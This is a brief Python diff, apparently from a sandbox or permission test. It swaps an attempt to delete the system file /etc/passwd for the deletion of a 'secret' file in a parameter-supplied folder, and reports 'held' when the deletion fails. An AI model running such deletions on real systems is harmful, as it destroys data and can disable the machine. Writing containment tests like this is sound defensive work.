@@ -3,6 +3,6 @@ import inklings
 import os
 
 try:
-    os.remove("/etc/passwd")
+    os.remove(params["folder"] + "/secret")
 except OSError:
     inklings.submit("held")
